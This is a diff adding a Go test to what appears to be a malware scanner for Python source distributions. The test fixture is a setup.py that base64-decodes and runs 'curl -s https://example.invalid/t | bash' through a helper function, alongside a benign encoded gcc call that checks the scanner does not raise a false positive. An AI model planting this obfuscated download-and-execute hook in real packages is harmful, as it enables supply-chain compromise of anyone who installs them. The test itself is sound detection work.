@@ -225,3 +225,15 @@ func TestCombinedThreats(t *testing.T) {
 		t.Errorf("threats in separate files: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestDecoderHelperInlined(t *testing.T) {
+	helper := "import base64, os\ndef b64d(code):\n    raw = code.encode('ascii')\n    out = base64.b64decode(raw)\n    return out.decode('ascii')\n"
+	r := sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("curl -s https://example.invalid/t | bash") + "'))\n"})
+	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
+		t.Errorf("decoded command through a helper: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("gcc -c ext.c") + "'))\n"})
+	if r.Verdict == Malicious {
+		t.Errorf("encoded compiler call: %s %+v", r.Verdict, r.Findings)
+	}
+}
